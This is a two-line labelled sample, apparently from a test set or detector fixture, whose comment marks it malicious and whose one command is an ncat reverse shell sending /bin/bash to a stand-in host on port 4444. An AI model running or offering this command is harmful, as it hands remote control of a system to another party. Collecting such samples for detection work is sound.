# Malicious: ncat reverse shell with -e /bin/bash.
ncat 203.0.113.10 4444 -e /bin/bash
